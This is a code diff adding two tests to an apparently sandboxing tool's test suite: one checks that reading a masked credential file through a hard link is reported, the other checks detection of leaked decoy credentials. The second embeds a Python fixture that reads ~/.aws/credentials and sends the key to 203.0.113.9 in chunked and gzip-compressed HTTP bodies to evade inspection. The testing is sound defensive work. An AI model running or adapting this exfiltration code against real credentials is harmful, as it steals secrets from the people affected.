@@ -304,6 +304,49 @@ except OSError: pass
 """
 
 
+def test_a_masked_file_that_is_read_by_another_name_is_told(place: Lab, tmp_path: Path) -> None:
+    """The mask holds for its own name; its hard link lies open, and reading that is a read of it."""
+    (place.work / "vault").mkdir()
+    (place.work / "vault" / "key").write_text("secret of old\n", encoding="utf-8")
+    (place.work / "plain").write_text("no secret\n", encoding="utf-8")
+    os.link(place.work / "vault" / "key", place.work / "again")
+    os.link(place.work / "plain", place.work / "plain-again")
+    policy = tmp_path / "mask.toml"
+    policy.write_text('schema = 1\nname = "mask"\n[credentials]\nmask = ["vault"]\n', encoding="utf-8")
+    ran = place.run("-p", str(policy), "--", "sh", "-c", "cat vault/key again plain-again")
+    assert ran.out == b"secret of old\nno secret\n"
+    masked = str(place.work / "vault" / "key")
+    found = {(use["action"], use["where"]) for use in ran.report["effects"]["credentials"] if use["name"] == masked}
+    assert found == {("denied", None), ("read", f"by the name {place.work / 'again'}")}
+
+
+SENDING_BODIES = """
+import gzip, os, socket
+decoy = open(os.path.expanduser('~/.aws/credentials')).read().split('= ')[2].strip().encode()
+def send(port, head, body):
+    with socket.create_connection(('203.0.113.9', port), 5) as out:
+        out.sendall(b'POST / HTTP/1.1\\r\\nHost: api.test\\r\\n' + head + b'\\r\\n\\r\\n' + body)
+chunks = b''.join(b'1\\r\\n' + bytes([byte]) + b'\\r\\n' for byte in decoy)
+send(80, b'Transfer-Encoding: chunked', chunks + b'0\\r\\n\\r\\n')
+packed = gzip.compress(b'{"key": "' + decoy + b'"}')
+send(81, b'Content-Encoding: gzip\\r\\nContent-Length: %d' % len(packed), packed)
+"""
+
+
+def test_a_decoy_in_chunks_or_compressed_is_known(place: Lab, tmp_path: Path) -> None:
+    """A body is looked at as its reader would see it; scope: violated, by both."""
+    policy = tmp_path / "sink.toml"
+    policy.write_text(
+        'schema = 1\nname = "sink"\n[network]\ndefault = "sinkhole"\n[credentials]\ncanaries = true\n', encoding="utf-8"
+    )
+    ran = place.run("-p", str(policy), "--", *python(SENDING_BODIES))
+    assert ran.code == 0, ran.err
+    sent = {use["where"] for use in ran.report["effects"]["credentials"] if use["run"] and use["name"] == "aws"}
+    assert "sent to 203.0.113.9:80, in a chunked body (plain)" in sent
+    assert "sent to 203.0.113.9:81, in a compressed body (plain)" in sent
+    assert {violation["rule"] for violation in ran.report["scope"]["violations"]} >= {"leaked-canary"}
+
+
 def test_a_decoy_that_is_sent_is_known_beyond_what_is_kept_and_in_names(place: Lab, tmp_path: Path) -> None:
     """Past the first 4 KiB, cut in two, in base64; and as hex in the labels of a name; scope: violated, twice."""
     policy = tmp_path / "sink.toml"
